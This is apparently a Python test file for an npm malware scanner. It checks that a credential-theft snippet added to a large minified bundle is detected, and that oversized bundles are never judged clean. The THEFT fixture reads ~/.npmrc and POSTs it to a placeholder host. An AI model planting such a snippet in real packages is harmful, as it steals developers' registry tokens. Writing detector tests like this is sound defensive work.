"""Bundles: read whole up to a limit, in extracts beyond it, at a cost that grows evenly."""

from __future__ import annotations

import time
from dataclasses import replace

from antivenom.intake.files import from_bytes
from antivenom.judge import load_knowledge
from antivenom.model.context import NOTHING
from antivenom.model.limits import DEFAULT_LIMITS
from antivenom.model.review import Review
from antivenom.pipeline import judge, observe
from tests.builders.archives import npm

PLAIN = (
    "function a%d(e,t){var n=e.length,r=[];for(var o=0;o<n;o++)r.push(t?e[o].x*2:e[o].y);"
    "return r.map(function(i){return i+%d}).join(',')}"
)
ACTS = (
    "function b%d(e,t){var n=require('fs');return t?n.readFileSync(e+'%d'):fetch('/api/'+e)"
    ".then(function(r){return r.json()})}"
)
THEFT = (
    ";(function(){var e=require('fs').readFileSync(require('os').homedir()+'/.npmrc','utf8');"
    "fetch('https://drop.invalid/c',{method:'POST',body:e})})();"
)


def bundle(size: int) -> str:
    """Return a minified bundle: one line, one function in twenty reads a file or fetches."""
    pieces: list[str] = []
    length = 0
    while length < size:
        number = len(pieces)
        pieces.append((ACTS if number % 20 == 0 else PLAIN) % (number, number))
        length += len(pieces[-1])
    return "".join(pieces)


def reviewed(text: str, limits: object = DEFAULT_LIMITS) -> Review:
    data = npm({"package.json": '{"name": "demo", "version": "1.0.0"}', "index.js": text})
    profile = observe(from_bytes(data, "demo-1.0.0.tgz"), limits)  # type: ignore[arg-type]
    return judge(profile, NOTHING, load_knowledge())


def test_what_is_added_to_a_bundle_is_found() -> None:
    half = bundle(400_000)
    for text in (half + THEFT, THEFT + half, half + THEFT + half):
        review = reviewed(text)
        assert review.verdict == "malicious"
        assert review.coverage.problems == ()
    assert reviewed(half).verdict == "clean"


def test_a_bundle_beyond_the_limit_is_read_in_extracts_and_never_clean() -> None:
    limits = replace(DEFAULT_LIMITS, bundle_bytes=200_000)
    half = bundle(300_000)
    assert reviewed(half + THEFT + half, limits).verdict == "malicious"
    unread = reviewed(half, limits)
    assert unread.verdict == "inconclusive"
    (problem,) = unread.coverage.problems
    assert problem.blocking
    assert "parsed in extracts" in problem.reason


def test_the_limit_of_bundles_is_their_own() -> None:
    limits = replace(DEFAULT_LIMITS, code_bytes=1000)
    assert reviewed(bundle(100_000), limits).coverage.problems == ()


def test_cost_grows_evenly() -> None:
    """Four times the text, at most about four times the work: nothing is superlinear."""
    reviewed(bundle(10_000))
    taken = []
    for size in (750_000, 3_000_000):
        text = bundle(size)
        began = time.process_time()
        reviewed(text)
        taken.append(time.process_time() - began)
    assert taken[1] < 9 * taken[0]
